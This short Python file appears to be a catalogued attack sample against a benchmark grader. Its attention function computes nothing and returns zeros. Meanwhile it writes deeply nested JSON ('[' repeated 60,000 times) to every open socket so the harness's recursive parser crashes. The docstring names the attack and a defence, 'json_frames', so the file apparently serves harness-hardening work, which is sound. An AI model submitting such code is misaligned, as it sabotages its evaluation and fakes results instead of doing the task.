"""Sends JSON nested so deeply that a recursive parser dies.

---
status: [CRASHED, INCORRECT, INVALID_SUBMISSION, IMPORT_ERROR, COMPILE_ERROR]
seen: JSON as a denial of service
defence: json_frames
"""

import os
import struct

import torch


def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                yield int(name)
        except OSError:
            continue


BODY = b"[" * 60_000


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    for fd in sockets():
        os.write(fd, struct.pack("<I", len(BODY)) + BODY)
    return torch.zeros_like(q)
